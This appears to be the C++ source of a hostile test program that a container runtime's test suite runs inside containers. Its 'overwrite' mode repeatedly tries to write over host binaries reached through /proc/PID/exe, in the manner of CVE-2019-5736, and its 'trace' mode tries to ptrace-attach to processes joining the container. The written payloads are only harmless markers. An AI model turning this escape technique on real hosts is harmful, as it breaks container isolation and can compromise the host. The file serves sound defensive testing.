// What the attack tests put into containers. What it does is said by its first argument, or else by
// its name: a program that a daemon might start on its own, such as xz, leaves a mark.
//
//   overwrite       tries for ever to write into programs of other processes that are not the
//                   container's own, as CVE-2019-5736 did
//   trace           tries for ever to attach to processes that join the container, before they have
//                   become what they are to run
//   hold            a child holds standard output for a day, the parent ends
//   PROGRAM         makes the file /pwned
//
// Linked statically, so that an image needs nothing else.
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

namespace {

// Calls `visit` with each process that is not this one.
template <class Visit>
void EachProcess(Visit visit) {
  DIR* const proc = opendir("/proc");
  if (proc == nullptr) return;
  while (const dirent* entry = readdir(proc)) {
    const int pid = atoi(entry->d_name);
    if (pid > 0 && pid != getpid()) visit(pid);
  }
  closedir(proc);
}

// Whether the file is one that the container has by itself: on the file system of its root.
bool IsOwn(const struct stat& file) {
  struct stat root = {};
  return stat("/", &root) == 0 && root.st_dev == file.st_dev;
}

// Whether the container has the file, which is open as `descriptor`, by the same name: as one that
// is mounted into it, such as the program of its first process.
bool IsMountedHere(int descriptor, const struct stat& file) {
  char link[64], path[4096];
  snprintf(link, sizeof link, "/proc/self/fd/%d", descriptor);
  const ssize_t length = readlink(link, path, sizeof path - 1);
  if (length <= 0) return false;
  path[length] = 0;
  struct stat here = {};
  return stat(path, &here) == 0 && here.st_dev == file.st_dev && here.st_ino == file.st_ino;
}

// A process that runs `file` keeps it from being written; it is tried until the process is gone.
void WriteInto(int file) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", file);
  for (int i = 0; i < 20000; ++i) {
    const int fd = open(path, O_WRONLY);
    if (fd < 0) continue;
    if (pwrite(fd, "#!/bin/pwned\n", 13, 0) == 13) puts("WROTE");
    fflush(stdout);
    close(fd);
    return;
  }
}

[[noreturn]] void Overwrite() {
  puts("ready");
  fflush(stdout);
  for (;;) {
    EachProcess([](int pid) {
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      const int file = open(path, O_PATH | O_CLOEXEC);
      if (file < 0) return;
      struct stat status = {};
      if (fstat(file, &status) == 0 && !IsOwn(status)) WriteInto(file);
      close(file);
    });
  }
}

[[noreturn]] void Trace() {
  puts("ready");
  fflush(stdout);
  for (;;) {
    EachProcess([](int pid) {
      if (ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) != 0) return;
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      // Opened, because the process goes on, and a name that is read after its end says nothing.
      const int program = open(path, O_PATH | O_CLOEXEC);
      struct stat status = {};
      // After its exec it is a process of the container, which may trace its own.
      if (program >= 0 && fstat(program, &status) == 0 && !IsOwn(status) &&
          !IsMountedHere(program, status))
        puts("SEIZED");
      fflush(stdout);
      if (program >= 0) close(program);
      ptrace(PTRACE_INTERRUPT, pid, nullptr, nullptr);
      waitpid(pid, nullptr, __WALL);
      ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
    });
  }
}

}  // namespace

int main(int argc, char** argv) {
  const char* const name = strrchr(argv[0], '/') == nullptr ? argv[0] : strrchr(argv[0], '/') + 1;
  const char* const what = argc > 1 && strcmp(name, "hostile") == 0 ? argv[1] : "";
  if (strcmp(what, "overwrite") == 0) Overwrite();
  if (strcmp(what, "trace") == 0) Trace();
  if (strcmp(what, "hold") == 0) {
    if (fork() == 0) sleep(86400);
    return 0;
  }
  const int fd = open("/pwned", O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
  if (fd >= 0) {
    dprintf(fd, "%s\n", name);
    close(fd);
  }
  return 0;
}
